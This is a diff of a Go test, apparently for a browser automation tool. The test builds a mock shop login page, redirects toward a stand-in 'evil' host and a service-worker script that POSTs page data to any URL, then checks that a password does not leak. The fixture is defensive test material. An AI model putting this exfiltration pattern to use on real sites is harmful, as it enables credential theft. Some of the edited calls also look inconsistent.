@@ -68,8 +68,8 @@ func TestJudgedSubmitter(t *testing.T) {
 // encoding, by none of the ways in which a page sends.
 func TestNothingLeaves(t *testing.T) {
 	pipetest.UnderRace(t)
-	t.Parallel()
-	h := serve(t, map[string]any{
+	h := common()
+	p := share(t, map[string]any{
 		"shop/login": field + `<button>Log in</button></form><p id=in hidden>in</p><iframe name=box src=/box></iframe>
 			<script>f.onsubmit = (e) => { e.preventDefault(); document.querySelector('#in').hidden = false; self.v = pw.value }</script>`,
 		"shop/box": "<p>box</p>", "evil/got": "", "evil/frame": "<p>frame</p>", "shop/hop": to("evil", "/got", 307), "shop/hops": to("shop", "/hop", 307),
@@ -83,8 +83,7 @@ func TestNothingLeaves(t *testing.T) {
 				self.onmessage = (e) => e.waitUntil(fetch(e.data.to, {method: 'POST', mode: 'no-cors', body: e.data.text}).then(() => e.source.postMessage('sent'), () => e.source.postMessage('failed')))`)
 		},
 	})
-	p := h.start(shop + "done = \"#in\"\n")
-	p.Call("login", []any{"shop"})
+	p.Call("login", []any{"done"})
 	evil := h.at("evil") + "/got"
 	if got := p.Text("eval", []any{"pw.value + f.elements.length"}); got != "3" {
 		t.Errorf("a field keeps %s", got)
